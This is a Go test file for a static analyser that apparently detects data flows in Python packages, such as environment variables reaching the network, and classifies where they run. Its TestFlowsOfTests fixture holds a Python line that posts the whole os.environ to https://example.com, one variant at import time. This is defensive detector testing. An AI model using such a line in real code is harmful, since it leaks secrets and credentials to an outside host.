package link

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/wheelscope/wheelscope/engine/fact"
	"github.com/wheelscope/wheelscope/engine/fact/gather"
	"github.com/wheelscope/wheelscope/engine/fact/wire"
	"github.com/wheelscope/wheelscope/engine/pack"
	"github.com/wheelscope/wheelscope/engine/source"
)

// TestFlows reads packages in which every flow is labelled on the line where it
// ends: "# flow: environment.all > network", several divided by "; ".
func TestFlows(t *testing.T) {
	paths, err := filepath.Glob("testdata/flows/*.txtar")
	require.NoError(t, err)
	require.NotEmpty(t, paths)
	for _, path := range paths {
		t.Run(strings.TrimSuffix(filepath.Base(path), ".txtar"), func(t *testing.T) {
			data, err := os.ReadFile(path)
			require.NoError(t, err)
			p, want := flowPackage(t, data)
			var got []string
			for i := range p.Facts {
				f := &p.Facts[i]
				if f.Kind != fact.Flow {
					continue
				}
				from, to, _ := strings.Cut(f.Name, ">")
				if line := fmt.Sprintf("%s:%d %s > %s", p.Files[f.File].Path, f.Place.Line, from, to); !slices.Contains(got, line) {
					got = append(got, line)
				}
				require.GreaterOrEqual(t, len(f.Flow), 1)
				require.Equal(t, fact.Step{File: f.File, Line: f.Place.Line, Name: f.Flow[len(f.Flow)-1].Name}, f.Flow[len(f.Flow)-1])
			}
			require.ElementsMatch(t, want, got)
		})
	}
}

// TestFlowsOfTests: what a test gives to a function of the package is a flow of
// the test, wherever it ends; what runs by itself keeps its context.
func TestFlowsOfTests(t *testing.T) {
	const opener = "import urllib.request\ndef fetch(address, data):\n    urllib.request.urlopen(address, data)\n"
	const caller = "import os\nfrom acme.net import fetch\ndef test():\n    fetch('https://example.com', str(dict(os.environ)).encode())\n"
	for _, c := range []struct {
		caller string
		end    string
		want   fact.Context
	}{
		{"acme/tests/test_net.py", opener, fact.Test},
		{"acme/examples/net.py", opener, fact.Docs},
		{"acme/user.py", opener, fact.InCall},
		{"acme/tests/test_net.py", opener + "fetch('https://example.com', b'')\n", fact.AtImport},
	} {
		p, _ := flowPackage(t, []byte("-- acme/__init__.py --\n-- acme/net.py --\n"+c.end+"-- "+c.caller+" --\n"+caller))
		var got []fact.Context
		for i := range p.Facts {
			if f := &p.Facts[i]; f.Kind == fact.Flow && f.Name == "environment.all>network" {
				got = append(got, f.Context)
			}
		}
		require.Equal(t, []fact.Context{c.want}, got, c.caller)
	}
}

const flowLabel = "# flow: "

// flowPackage reads the files of a text archive, through the encoding of
// partials, and gives the labels.
func flowPackage(t *testing.T, data []byte) (*fact.Package, []string) {
	g := gather.New(&gather.Watch{
		Call: func(name string) bool { return name == "builtins.exec" }, Under: func(string) bool { return false }, Flow: true,
	}, source.DefaultLimits())
	var want []string
	var sums []*gather.Summary
	for _, m := range pack.Parse(data) {
		lines := strings.Split(string(m.Data), "\n")
		for i, line := range lines {
			code, label, ok := strings.Cut(line, flowLabel)
			if !ok {
				continue
			}
			for _, l := range strings.Split(label, "; ") {
				want = append(want, fmt.Sprintf("%s:%d %s", m.Name, i+1, strings.TrimSpace(l)))
			}
			lines[i] = strings.TrimRight(code, " ")
		}
		text := []byte(strings.Join(lines, "\n"))
		s := g.File(m.Name, source.KindOf(m.Name, text), text)
		c := wire.Writer()
		s.Code(c)
		again := new(gather.Summary)
		c = wire.Reader(c.Bytes())
		again.Code(c)
		require.NoError(t, c.Err())
		sums = append(sums, again)
	}
	return Link(sums, Layout{Watched: func(string) bool { return false }}), want
}
